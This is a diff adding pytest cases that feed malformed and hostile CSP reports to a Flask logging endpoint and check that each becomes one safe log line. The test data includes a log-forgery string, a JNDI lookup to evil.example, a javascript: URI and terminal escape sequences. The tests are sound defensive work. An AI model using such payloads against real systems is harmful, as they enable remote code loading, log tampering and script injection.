@@ -198,6 +198,10 @@ def test_the_reports_of_one_request_are_logged_up_to_a_limit(
         "[7]",
         '[{"body": "text"}]',
         '[{"body": {}}, {"type": "coep"}]',
+        *("true", '"text"', "[[]]", "[null]", "NaN", "[]]", "\x00", "1" * 5000),
+        *('{"csp-report": null}', '{"csp-report": "text"}', '{"csp-report": {}'),
+        *('[{"body": null}]', '[{"body": []}]', '{"a": ' * 2000, "[{}, {}]"),
+        *(b"\xff", b"\xef\xbb\xbf{}", b'{"csp-report": {"sample": "\xe9"}}'),
     ],
 )
 def test_a_body_that_is_not_a_report_is_refused(
@@ -239,6 +243,40 @@ def test_a_report_cannot_forge_a_line_of_the_log_and_is_cut(
     send(app, {"csp-report": report})
     expected = {"page": forged, "blocked": "y" * reports.MAX_TEXT}
     assert logged() == [{"type": "csp-violation", **expected}]
+
+
+ODD_REPORTS: list[dict[str, Any]] = [
+    {},
+    {"type": ["csp-violation"], "disposition": {"a": "b"}, "line-number": [7]},
+    {"line-number": True, "document-uri": None, "blocked-uri": 7},
+    {"line-number": 1.5, "sample": "\ud800"},
+    {"line-number": -(10**30)},
+    {"\ud800": "\udfff", "": "", "constructor": {"prototype": {}}},
+    {"sample": '"}\r\n{"level": "error"}'},
+    {"sample": "%s %(name)s {0} {sample} ${jndi:ldap://evil.example/a}"},
+    {"sample": "\x1b]0;title\x07\x1b[2J\u202e\x00"},
+    {"blocked-uri": "javascript:alert(1)//?#", "document-uri": "//?a\\b#"},
+    {f"name{number}": {} for number in range(1000)},
+    {"body": {"body": {"body": {}}}, "csp-report": {}, "url": "#"},
+]
+
+
+@pytest.mark.parametrize("body", ODD_REPORTS, ids=range(len(ODD_REPORTS)))
+@pytest.mark.parametrize("content_type", [OLD, NEW])
+def test_an_odd_report_is_one_line_of_the_log(
+    app: Flask,
+    caplog: pytest.LogCaptureFixture,
+    body: dict[str, Any],
+    content_type: str,
+) -> None:
+    caplog.set_level(logging.WARNING)
+    sent = {"csp-report": body} if content_type == OLD else [{"body": body}]
+    assert send(app, sent, content_type).code == 204
+    (message,) = [record.getMessage() for record in caplog.records]
+    logged = json.loads(message.removeprefix("csp-report "))
+    assert message.isascii()
+    assert message.isprintable()
+    assert all(isinstance(value, str | int) for value in logged.values())
 
 
 def test_the_line_in_the_log_is_printable_ascii(
